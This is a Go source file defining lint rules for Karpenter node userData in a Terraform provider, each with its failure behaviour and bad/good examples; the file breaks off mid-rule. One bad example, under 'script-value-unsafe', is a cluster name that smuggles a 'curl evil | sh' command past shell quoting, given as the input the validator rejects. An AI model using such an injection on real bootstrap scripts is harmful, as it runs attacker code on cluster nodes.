package lint

import (
	"strings"

	"github.com/karpenter-tf/terraform-provider-karpenter/internal/rules"
)

const category = "userData"

// classWith renders a docs example: a karpenter_ec2nodeclass with the
// given arguments and blocks (the other required arguments elided).
func classWith(items ...string) string {
	return rules.Block(`resource "karpenter_ec2nodeclass" "x"`, append([]string{"# name, role, selector terms ..."}, items...)...) + "\n"
}

// poolWith renders a karpenter_nodepool with the given arguments and
// blocks (the others elided).
func poolWith(items ...string) string {
	return rules.Block(`resource "karpenter_nodepool" "x"`, append([]string{"# ..."}, items...)...) + "\n"
}

// The ami_family argument of the examples' classes.
const (
	onAL2          = `ami_family = "AL2"`
	onAL2023       = `ami_family = "AL2023"`
	onBottlerocket = `ami_family = "Bottlerocket"`
	onCustom       = `ami_family = "Custom"`
	onWindows2022  = `ami_family = "Windows2022"`
)

// nodeClass renders a class with an ami_family argument and a heredoc
// user_data.
func nodeClass(family, userData string) string {
	return classWith(family, heredoc("user_data", userData))
}

// heredoc renders an argument whose value is a heredoc of text.
func heredoc(name, text string) string {
	var b strings.Builder
	b.WriteString(name + " = <<-EOT\n")
	for _, l := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		if l != "" {
			b.WriteString("  " + l)
		}
		b.WriteString("\n")
	}
	b.WriteString("EOT")
	return b.String()
}

// bootstrapClass renders a Custom class with a bootstrap block of the
// given arguments and blocks.
func bootstrapClass(items ...string) string {
	return classWith(onCustom, rules.Block("bootstrap", items...))
}

// The cluster facts of the nodeadm examples.
const (
	eksEndpoint = `api_server_endpoint = data.aws_eks_cluster.this.endpoint`
	eksCA       = `certificate_authority = data.aws_eks_cluster.this.certificate_authority[0].data`
	eksCIDR     = `service_cidr = "172.20.0.0/16"`
)

// teamTaint is the taint the examples move out of userData.
var teamTaint = []string{`key = "team"`, `value = "a"`, `effect = "NoSchedule"`}

const (
	al2Call    = "/etc/eks/bootstrap.sh my-cluster"
	srcBootSh  = "awslabs/amazon-eks-ami templates/al2/runtime/bootstrap.sh at 41298160, before AL2 was removed (the `while [[ $# -gt 0 ]]; case \"$1\"` loop)"
	srcKubelet = "k8s.io/kubernetes pkg/util/taints/taints.go parseTaint, NewTaintsVar (--register-with-taints)"
)

var (
	ruleShellSyntax = rules.Register(rules.Rule{
		ID: "shell-syntax-error", Severity: rules.Error, Category: category,
		Title:     "userData shell script does not parse",
		Behaviour: "cloud-init runs the script with bash, which stops at the syntax error; the node never runs its bootstrap and never joins.",
		Source:    "bash grammar (checked with mvdan.cc/sh)",
		Bad:       nodeClass(onCustom, "#!/bin/bash\nif [ -f /etc/eks/bootstrap.sh ]; then\n  "+al2Call+"\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\nif [ -f /etc/eks/bootstrap.sh ]; then\n  "+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\nfi\n"),
	})
	ruleOptionEquals = rules.Register(rules.Rule{
		ID: "bootstrap-option-equals", Severity: rules.Error, Category: category,
		Title:     "bootstrap.sh option written as --opt=value",
		Behaviour: "bootstrap.sh only matches space-separated options; `--opt=value` is one word no `case` branch matches, so it becomes a positional argument: silently ignored after the cluster name, taken as the cluster name when first. With --kubelet-extra-args= the kubelet starts without the labels and taints, including karpenter.sh/unregistered.",
		Source:    srcBootSh,
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args='--register-with-taints=\"karpenter.sh/unregistered:NoExecute\"'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
	})
	ruleContinuation = rules.Register(rules.Rule{
		ID: "bootstrap-continuation-missing", Severity: rules.Error, Category: category,
		Title:     "bootstrap.sh option on its own line (missing `\\`)",
		Behaviour: "Without a trailing backslash the previous line ends the bootstrap.sh call; the next line runs as a command named after the option, which fails with `command not found`, and bootstrap.sh ran without those options.",
		Source:    "bash line continuation; " + srcBootSh,
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+"\n  --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" \\\n  --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
	})
	ruleOptionUnknown = rules.Register(rules.Rule{
		ID: "bootstrap-option-unknown", Severity: rules.Warning, Category: category,
		Title:     "bootstrap.sh does not know this option",
		Behaviour: "bootstrap.sh puts unknown words into its positional arguments and uses only the first as the cluster name; the option has no effect.",
		Source:    srcBootSh,
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --max-pods 110 --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --use-max-pods false --kubelet-extra-args '--max-pods=110 --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
	})
	ruleSingleQuote = rules.Register(rules.Rule{
		ID: "kubelet-args-single-quote", Severity: rules.Error, Category: category,
		Title:     "single quote inside --kubelet-extra-args",
		Behaviour: "bootstrap.sh writes the value into the systemd drop-in as Environment='KUBELET_EXTRA_ARGS=<value>'; a `'` in the value ends that quoting, so systemd mis-parses the line and the kubelet gets other arguments than written (or none).",
		Source:    srcBootSh + " (30-kubelet-extra-args.conf)",
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args \"--node-labels='team=a' --register-with-taints=karpenter.sh/unregistered:NoExecute\"\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--node-labels=team=a --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
	})
	RuleTaintInvalid = rules.Register(rules.Rule{
		ID: "kubelet-taint-invalid", Severity: rules.Error, Category: category,
		Title:     "taint the kubelet or API server rejects",
		Behaviour: "The kubelet parses --register-with-taints (split on `,`, then `:`, then `=`; key a qualified name, value a label value, effect NoSchedule/PreferNoSchedule/NoExecute) and exits on an invalid item, e.g. `invalid taint effect: NoExecute\", unsupported taint effect` when literal quotes reach it; a taint without effect makes the API server reject the Node. The node never registers.",
		Source:    srcKubelet + "; k8s.io/apimachinery validation IsQualifiedName/IsValidLabelValue",
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute,team=a/b:NoSchedule'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute,team=a-b:NoSchedule'\n"),
	})
	ruleTaintsSpace = rules.Register(rules.Rule{
		ID: "kubelet-taints-space", Severity: rules.Error, Category: category,
		Title:     "space inside the --register-with-taints list",
		Behaviour: "systemd splits the extra arguments at whitespace: the list ends at the space, the kubelet sees an empty or space-prefixed item (`invalid taint spec`) or a stray positional argument (`unknown command`), and exits.",
		Source:    "systemd.service(5) \"Command lines\"; " + srcKubelet,
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute, team=a:NoSchedule'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute,team=a:NoSchedule'\n"),
	})
	ruleOptionRepeated = rules.Register(rules.Rule{
		ID: "option-repeated", Severity: rules.Warning, Category: category,
		Title:     "option given more than once: only the last one takes effect",
		Behaviour: "bootstrap.sh's case loop assigns an option's variable each time it meets the option (`KUBELET_EXTRA_ARGS=$2`), and each --register-with-taints replaces the kubelet's whole taint list (pflag calls the flag's Set for every occurrence): only the last value reaches the kubelet, and the taints and labels of the earlier ones are dropped without a message.",
		Source:    srcBootSh + "; " + srcKubelet + " (taintsVar.Set)",
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute' \\\n  --kubelet-extra-args '--node-labels=team=a'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" \\\n  --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute --node-labels=team=a'\n"),
	})
	ruleRedirect = rules.Register(rules.Rule{
		ID: "kubelet-args-unquoted-redirect", Severity: rules.Warning, Category: category,
		Title:     "unquoted < or > in kubelet arguments",
		Behaviour: "Outside quotes the shell reads `<`/`>` as a redirection (`memory.available<500Mi` opens the file 500Mi and fails); any tool that re-reads the arguments through a shell does the same. Karpenter always writes such values in double quotes.",
		Source:    "bash redirections; Karpenter bootstrap.go joinParameterArgs (%q)",
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--eviction-hard=memory.available<500Mi --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--eviction-hard=\"memory.available<500Mi\" --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
	})
	RuleLabelRestricted = rules.Register(rules.Rule{
		ID: "kubelet-label-restricted", Severity: rules.Error, Category: category,
		Title:     "kubernetes.io/k8s.io label passed to the kubelet",
		Behaviour: "The kubelet refuses to start: `unknown 'kubernetes.io' or 'k8s.io' labels specified with --node-labels: [...]` / `--node-labels in the 'kubernetes.io' namespace must begin with an allowed prefix (kubelet.kubernetes.io, node.kubernetes.io) or be in the specifically allowed set (...)`.",
		Source:    "k8s.io/kubernetes cmd/kubelet/app/options ValidateKubeletFlags (--node-labels)",
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--node-labels=node-role.kubernetes.io/worker=true --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
		Good:      "# Put the label on the NodePool instead; Karpenter applies kubernetes.io labels to the Node after registration.\n" + poolWith(`labels = { "node-role.kubernetes.io/worker" = "true" }`),
	})
	ruleLabelInvalid = rules.Register(rules.Rule{
		ID: "kubelet-label-invalid", Severity: rules.Error, Category: category,
		Title:     "node label the kubelet rejects",
		Behaviour: "The kubelet validates --node-labels (key a qualified name, value a label value) and exits with `invalid node labels: ...`; in a rendered script an unvalidated value could also break the quoting.",
		Source:    "k8s.io/kubernetes cmd/kubelet/app/options ValidateKubeletFlags",
		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `node_labels = { team = "a b" }`),
		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `node_labels = { team = "a-b" }`),
	})
	ruleUnregisteredMissing = rules.Register(rules.Rule{
		ID: "unregistered-taint-missing", Severity: rules.Error, Category: category,
		Title:     "Custom userData does not register karpenter.sh/unregistered:NoExecute",
		Behaviour: "Karpenter injects nothing into Custom userData. Before 1.3 a node without the taint fails registration (`missing required startup taint, karpenter.sh/unregistered`) and the NodeClaim is deleted after the 15-minute registration timeout, in a loop; from 1.3 Karpenter emits the event UnregisteredTaintMissing and pods can land before labels and taints are synced. Only what reaches the kubelet counts: the last --kubelet-extra-args of a bootstrap.sh call, the last --register-with-taints, a NodeConfig flag over registerWithTaints, the -KubeletExtraArgs of Start-EKSBootstrap.ps1; the taint written in a comment, an echo or a here-document does not. Variables the script assigns are followed; a value only known at boot (a command substitution, an environment variable) gets a warning that the check could not be made.",
		Source:    "sigs.k8s.io/karpenter pkg/controllers/nodeclaim/lifecycle/registration.go; PR #1991; aws/karpenter-provider-aws pkg/providers/amifamily/bootstrap/custom.go",
		Bad:       nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/uninitialized:NoExecute'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
	})
	ruleNodeConfigTaintFlag = rules.Register(rules.Rule{
		ID: "nodeconfig-register-with-taints-flag", Severity: rules.Error, Category: category,
		Title:     "NodeConfig kubelet.flags sets --register-with-taints",
		Behaviour: "nodeadm appends kubelet.flags to the kubelet command line, and command-line flags override the config file: the flag replaces Karpenter's registerWithTaints, dropping karpenter.sh/unregistered and the NodePool taints (non-Custom nodes get taints only from userData). A flag inside a longer entry (`--node-labels=a=b --register-with-taints=...`) counts too: nodeadm writes the flags into NODEADM_KUBELET_ARGS, which systemd splits at whitespace.",
		Source:    "awslabs/amazon-eks-ami nodeadm/internal/kubelet/environment.go (flags), nodeadm/internal/api/merge.go; aws/karpenter-provider-aws pkg/providers/amifamily/bootstrap/nodeadm.go",
		Bad:       nodeClass(onAL2023, "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    flags:\n      - --register-with-taints=team=a:NoSchedule\n"),
		Good:      "# Put the taint on the NodePool; Karpenter renders it into registerWithTaints.\n" + poolWith(rules.Block("taints", teamTaint...)),
	})
	ruleNodeConfigOverridden = rules.Register(rules.Rule{
		ID: "nodeconfig-field-overridden", Severity: rules.Warning, Category: category,
		Title:     "NodeConfig field that Karpenter's NodeConfig overrides",
		Behaviour: "Karpenter appends its own NodeConfig last; nodeadm merges later documents over earlier ones and replaces lists, so the user's cluster details, maxPods and registerWithTaints are discarded.",
		Source:    "amazon-eks-ami nodeadm internal/api/merge.go; Karpenter nodeadm.go getNodeConfigYAML",
		Bad:       nodeClass(onAL2023, "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      maxPods: 42\n"),
		Good:      classWith(`ami_family = "AL2023"`, `kubelet { max_pods = 42 }`),
	})
	ruleNodeConfigInvalid = rules.Register(rules.Rule{
		ID: "nodeconfig-invalid", Severity: rules.Error, Category: category,
		Title:     "NodeConfig part does not parse",
		Behaviour: "nodeadm cannot decode the application/node.eks.aws part and fails `nodeadm init`; the kubelet never starts.",
		Source:    "amazon-eks-ami nodeadm api v1alpha1 NodeConfig",
		Bad:       nodeClass(onAL2023, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: application/node.eks.aws\n\nspec: [unclosed\n--B--\n"),
		Good:      nodeClass(onAL2023, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: application/node.eks.aws\n\napiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      shutdownGracePeriod: 30s\n--B--\n"),
	})
	ruleAL2023BootstrapSh = rules.Register(rules.Rule{
		ID: "al2023-bootstrap-sh", Severity: rules.Error, Category: category,
		Title:     "AL2023 userData calls bootstrap.sh",
		Behaviour: "On AL2023 /etc/eks/bootstrap.sh only prints an error and exits 1; nodes are configured by nodeadm from NodeConfig documents.",
		Source:    "amazon-eks-ami templates/al2023/runtime/rootfs/etc/eks/bootstrap.sh",
		Bad:       nodeClass(onAL2023, "#!/bin/bash\n"+al2Call+"\n"),
		Good:      nodeClass(onAL2023, "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      shutdownGracePeriod: 30s\n"),
	})
	ruleAL2MechanismOnAL2023 = rules.Register(rules.Rule{
		ID: "al2023-al2-kubelet-config", Severity: rules.Error, Category: category,
		Title:     "AL2023 userData configures the kubelet the AL2 way",
		Behaviour: "AL2 nodes read the kubelet's configuration from /etc/kubernetes/kubelet/kubelet-config.json and its flags from KUBELET_ARGS/KUBELET_EXTRA_ARGS, which kubelet.service.d drop-ins set. AL2023 nodes have neither: nodeadm writes /etc/kubernetes/kubelet/config.json from NodeConfig documents and the kubelet unit runs `kubelet $NODEADM_KUBELET_ARGS`. A script that edits kubelet-config.json fails (the file does not exist) and a drop-in setting KUBELET_EXTRA_ARGS changes nothing: the setting never reaches the kubelet. Reported for the AL2023 family and for Custom userData on AL2023 images.",
		Source:    "awslabs/amazon-eks-ami templates/al2023/runtime/rootfs/etc/systemd/system/kubelet.service and nodeadm/internal/kubelet (config.json, NODEADM_KUBELET_ARGS); templates/al2/runtime/bootstrap.sh (kubelet-config.json, KUBELET_EXTRA_ARGS)",
		Bad:       nodeClass(onAL2023, "#!/bin/bash\ncat <<'EOF' > /etc/systemd/system/kubelet.service.d/90-extra.conf\n[Service]\nEnvironment='KUBELET_EXTRA_ARGS=--image-gc-high-threshold=70'\nEOF\n"),
		Good:      nodeClass(onAL2023, "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      imageGCHighThresholdPercent: 70\n"),
	})
	ruleAL2BootstrapCall = rules.Register(rules.Rule{
		ID: "al2-bootstrap-sh-call", Severity: rules.Warning, Category: category,
		Title:     "AL2 userData calls bootstrap.sh itself",
		Behaviour: "With amiFamily AL2 Karpenter appends its own bootstrap.sh call after the user's parts; the node is bootstrapped twice and Karpenter's call rewrites the kubelet drop-ins.",
		Source:    "Karpenter docs (EC2NodeClass userData, AL2); eksbootstrap.go",
		Bad:       nodeClass(onAL2, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--node-labels=team=a'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--node-labels=team=a --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
	})
	ruleTOMLInvalid = rules.Register(rules.Rule{
		ID: "bottlerocket-toml-invalid", Severity: rules.Error, Category: category,
		Title:     "Bottlerocket userData is not valid settings TOML",
		Behaviour: "Karpenter fails launch-template generation with `invalid UserData ...` and launches no node.",
		Source:    "Karpenter bootstrap/bottlerocket.go Script, bottlerocketsettings.go UnmarshalTOML",
		Bad:       nodeClass(onBottlerocket, "[settings.kubernetes]\nmax-pods = \"110\"\n"),
		Good:      nodeClass(onBottlerocket, "[settings.kubernetes]\nallowed-unsafe-sysctls = [\"net.core.somaxconn\"]\n"),
	})
	ruleBRNodeTaints = rules.Register(rules.Rule{
		ID: "bottlerocket-node-taints-dropped", Severity: rules.Warning, Category: category,
		Title:     "settings.kubernetes.node-taints is replaced by Karpenter",
		Behaviour: "Karpenter replaces node-taints wholesale with the NodePool taints and karpenter.sh/unregistered; the user's taints never reach the node.",
		Source:    "Karpenter bootstrap/bottlerocket.go (NodeTaints reset)",
		Bad:       nodeClass(onBottlerocket, "[settings.kubernetes.node-taints]\nteam = [\"a:NoSchedule\"]\n"),
		Good:      poolWith(rules.Block("taints", teamTaint...)),
	})
	ruleBROverridden = rules.Register(rules.Rule{
		ID: "bottlerocket-setting-overridden", Severity: rules.Warning, Category: category,
		Title:     "Bottlerocket setting that Karpenter always overwrites",
		Behaviour: "Karpenter sets cluster-name, api-server, cluster-certificate and max-pods from the cluster and spec.kubelet, whatever the userData says.",
		Source:    "Karpenter bootstrap/bottlerocket.go Script",
		Bad:       nodeClass(onBottlerocket, "[settings.kubernetes]\nmax-pods = 42\n"),
		Good:      classWith(`ami_family = "Bottlerocket"`, `kubelet { max_pods = 42 }`),
	})
	ruleBRUnknown = rules.Register(rules.Rule{
		ID: "bottlerocket-unknown-setting", Severity: rules.Warning, Category: category,
		Title:     "settings.kubernetes key Karpenter does not know",
		Behaviour: "Karpenter re-serialises settings.kubernetes from its typed struct: unknown keys are logged (`Unknown parameter in userData K8s settings`) and dropped from the node's userData.",
		Source:    "Karpenter bootstrap/bottlerocketsettings.go BottlerocketKubernetes, UnmarshalTOML",
		Bad:       nodeClass(onBottlerocket, "[settings.kubernetes]\nnode-label = { team = \"a\" }\n"),
		Good:      nodeClass(onBottlerocket, "[settings.kubernetes.node-labels]\nteam = \"a\"\n"),
	})
	RuleFormatMismatch = rules.Register(rules.Rule{
		ID: "userdata-format-mismatch", Severity: rules.Error, Category: category,
		Title:     "userData format does not match the AMI family",
		Behaviour: "Bottlerocket reads only settings TOML (Karpenter fails with `invalid UserData` on a shell script or MIME archive); Linux families run shell scripts and NodeConfig documents, so TOML there does nothing or fails cloud-init.",
		Source:    "Karpenter bootstrap/bottlerocket.go, eksbootstrap.go, nodeadm.go",
		Bad:       nodeClass(onBottlerocket, "#!/bin/bash\necho hello\n"),
		Good:      nodeClass(onBottlerocket, "[settings.host-containers.admin]\nenabled = true\n"),
	})
	ruleNotRunByCloudInit = rules.Register(rules.Rule{
		ID: "userdata-not-run-by-cloud-init", Severity: rules.Error, Category: category,
		Title:     "Custom userData in no format cloud-init runs (no #! line)",
		Behaviour: "cloud-init picks a handler from the first line of userData that is not MIME: `#!` (a script), `#cloud-config`, `#include`, `#cloud-boothook`, `#part-handler`, `## template: jinja`, ... Anything else it types text/x-not-multipart, logs `Unhandled non-multipart (text/x-not-multipart) userdata` and runs nothing. Karpenter passes Custom userData unchanged, so a bootstrap.sh call without a #! line never runs and the node never joins (an error); other text is reported as a warning, since an AMI that does not boot with cloud-init may read its userData another way.",
		Source:    "cloud-init cloudinit/handlers/__init__.py (type_from_starts_with, walker_callback); aws/karpenter-provider-aws pkg/providers/amifamily/bootstrap/custom.go",
		Bad:       nodeClass(onCustom, al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
		Good:      nodeClass(onCustom, "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
	})
	ruleWindowsTags = rules.Register(rules.Rule{
		ID: "windows-powershell-tags", Severity: rules.Warning, Category: category,
		Title:     "<powershell> tags in Windows userData",
		Behaviour: "Karpenter wraps the userData in <powershell>...</powershell> itself; nested tags end the script early for EC2Launch and the bootstrap call after them is not run as PowerShell.",
		Source:    "Karpenter bootstrap/windows.go",
		Bad:       nodeClass(onWindows2022, "<powershell>\nWrite-Host \"hello\"\n</powershell>\n"),
		Good:      nodeClass(onWindows2022, "Write-Host \"hello\"\n"),
	})
	ruleMIMEInvalid = rules.Register(rules.Rule{
		ID: "mime-invalid", Severity: rules.Error, Category: category,
		Title:     "userData looks like MIME but is not a readable multipart archive",
		Behaviour: "userData starting with MIME-Version: or Content-Type: must be multipart MIME; otherwise Karpenter fails with `parsing custom user data input ...` (unreadable user data, no content-type header, not in multipart MIME format, unexpected EOF) and launches no node.",
		Source:    "Karpenter bootstrap/eksbootstrap.go copyCustomUserDataParts, bootstrap/mime/mime.go NewArchive",
		Bad:       nodeClass(onAL2, "MIME-Version: 1.0\nContent-Type: text/x-shellscript\n\necho hello\n"),
		Good:      nodeClass(onAL2, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/x-shellscript; charset=\"us-ascii\"\n\n#!/bin/bash\necho hello\n--B--\n"),
	})
	ruleMIMEUnterminated = rules.Register(rules.Rule{
		ID: "mime-unterminated", Severity: rules.Error, Category: category,
		Title:     "Custom MIME userData ends inside its last part on AL2023 images",
		Behaviour: "Karpenter passes Custom userData unchanged. On AL2023 images nodeadm reads it with Go's mime/multipart, which needs a boundary line after the last part (`--B--`, or at least `--B` and a line break): without one it fails (`unexpected EOF`, `multipart: NextPart: EOF`), nodeadm init stops and the node never joins. cloud-init's parser (AL2 images, and the scripts on AL2023) reads such a part anyway, and for the AL2 and AL2023 families Karpenter writes the archive anew with its own closing boundary, so there an open end is not reported; an archive ending in `--B` and a line break, as Karpenter's own Custom examples do, is read by every reader.",
		Source:    "awslabs/amazon-eks-ami nodeadm/internal/configprovider/mime.go (ParseMultipart: mime/multipart NextPart); Go mime/multipart; cloud-init cloudinit/user_data.py (email.message_from_string); aws/karpenter-provider-aws pkg/providers/amifamily/bootstrap/custom.go (userData unchanged)",
		Bad:       classWith(onCustom, `ami_selector_terms { alias = "al2023@latest" }`, heredoc("user_data", "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: application/node.eks.aws\n\napiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  cluster:\n    name: demo\n    apiServerEndpoint: https://example.eks.amazonaws.com\n    certificateAuthority: Y2E=\n    cidr: 10.100.0.0/16\n  kubelet:\n    config:\n      registerWithTaints:\n        - key: karpenter.sh/unregistered\n          effect: NoExecute\n")),
		Good:      classWith(onCustom, `ami_selector_terms { alias = "al2023@latest" }`, heredoc("user_data", "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: application/node.eks.aws\n\napiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  cluster:\n    name: demo\n    apiServerEndpoint: https://example.eks.amazonaws.com\n    certificateAuthority: Y2E=\n    cidr: 10.100.0.0/16\n  kubelet:\n    config:\n      registerWithTaints:\n        - key: karpenter.sh/unregistered\n          effect: NoExecute\n--B--\n")),
	})
	ruleMIMEEncoding = rules.Register(rules.Rule{
		ID: "mime-transfer-encoding-dropped", Severity: rules.Warning, Category: category,
		Title:     "AL2023 MIME part header that Karpenter drops",
		Behaviour: "For AL2023 Karpenter copies only each part's Content-Type; a Content-Transfer-Encoding such as base64 is lost while the body stays encoded, so cloud-init runs (or nodeadm reads) the encoded text.",
		Source:    "Karpenter bootstrap/mime/mime.go NewArchive/Serialize",
		Bad:       nodeClass(onAL2023, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/x-shellscript\nContent-Transfer-Encoding: base64\n\nIyEvYmluL2Jhc2gKZWNobyBoZWxsbwo=\n--B--\n"),
		Good:      nodeClass(onAL2023, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/x-shellscript\n\n#!/bin/bash\necho hello\n--B--\n"),
	})
	ruleTooLarge = rules.Register(rules.Rule{
		ID: "userdata-too-large", Severity: rules.Error, Category: category,
		Title:     "userData larger than 16384 bytes",
		Behaviour: "EC2 limits userData to 16 KB before base64; RunInstances/CreateFleet fail with UserDataSizeLimitExceeded.",
		Source:    "EC2 API (UserData); Karpenter launchtemplate validation",
		Bad:       nodeClass(onAL2, "#!/bin/bash\n# ... 20 KB of inline files ...\n"),
		Good:      nodeClass(onAL2, "#!/bin/bash\naws s3 cp s3://my-bucket/node-setup.sh /tmp/ && bash /tmp/node-setup.sh\n"),
	})
	RuleValueUnsafe = rules.Register(rules.Rule{
		ID: "script-value-unsafe", Severity: rules.Error, Category: category,
		Title:     "value cannot be placed safely into the bootstrap script",
		Behaviour: "Cluster name, endpoint, CA and DNS address are written into single-quoted shell/PowerShell arguments; a quote, `$(`, backtick, whitespace or newline would end the quoting or change the command, and is never a valid cluster fact anyway.",
		Source:    "Karpenter eksbootstrap.go/windows.go ('%s' formatting); EKS cluster name pattern",
		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster'; curl evil | sh; '"`),
		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`),
	})
	RuleCANotBase64 = rules.Register(rules.Rule{
		ID: "cluster-ca-not-base64", Severity: rules.Error, Category: category,
		Title:     "certificate authority is not base64",
		Behaviour: "Karpenter base64-decodes the CA bundle for AL2023 and fails with `decoding CABundle`; bootstrap.sh pipes it through `base64 -d` and writes a broken ca.crt.",
		Source:    "Karpenter bootstrap/nodeadm.go getNodeConfigYAML; bootstrap.sh",
		Bad:       "# certificate_authority cut short when copied\n" + bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, `certificate_authority = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tC"`, eksCIDR),
		Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
	})
	RuleCIDRMissing = rules.Register(rules.Rule{
		ID: "cluster-cidr-missing", Severity: rules.Error, Category: category,
		Title:     "NodeConfig needs the cluster service CIDR",
		Behaviour: "Karpenter cannot render AL2023 userData without spec.cluster.cidr (`resolving cluster CIDR`, NodeClassNotReady); nodeadm also requires it to derive the cluster DNS address.",
		Source:    "Karpenter bootstrap/nodeadm.go getNodeConfigYAML",
		Bad:       bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA),
		Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
	})
	RuleExtraArgInvalid = rules.Register(rules.Rule{
		ID: "bootstrap-kubelet-arg-invalid", Severity: rules.Error, Category: category,
		Title:     "kubelet_extra_args element that cannot be passed safely",
		Behaviour: "Each element becomes one kubelet argument in a single-quoted shell value, a systemd Environment line or a NodeConfig flag; quotes, whitespace, `$` or backslashes would split or break it, and --register-with-taints/--node-labels would override the taints and labels the block registers (pflag: last flag wins).",
		Source:    "systemd.service(5) \"Command lines\"; " + srcBootSh + " (30-kubelet-extra-args.conf)",
		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `kubelet_extra_args = ["--register-with-taints=team=a:NoSchedule"]`),
		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, rules.Block("register_with_taints", teamTaint...)),
	})
	RuleScriptUnsupported = rules.Register(rules.Rule{
		ID: "bootstrap-script-unsupported", Severity: rules.Error, Category: category,
		Title:     "bootstrap setting the bottlerocket format cannot express",
		Behaviour: "Bottlerocket runs no shell userData and takes no free-form kubelet flags; pre/post scripts and kubelet_extra_args would be silently lost.",
		Source:    "Bottlerocket settings API; this provider's bootstrap renderer",
		Bad:       bootstrapClass(`format = "bottlerocket"`, `cluster_name = "my-cluster"`, `pre_bootstrap_script = "sysctl -w vm.max_map_count=262144"`),
